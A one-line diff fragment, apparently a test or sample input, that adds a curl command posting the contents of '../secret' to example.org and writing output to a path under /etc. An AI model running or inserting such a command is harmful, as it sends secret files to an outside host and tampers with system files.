@@ -1,0 +1,1 @@
+curl -o file:///etc/x https://example.org/a=b --data=@../secret
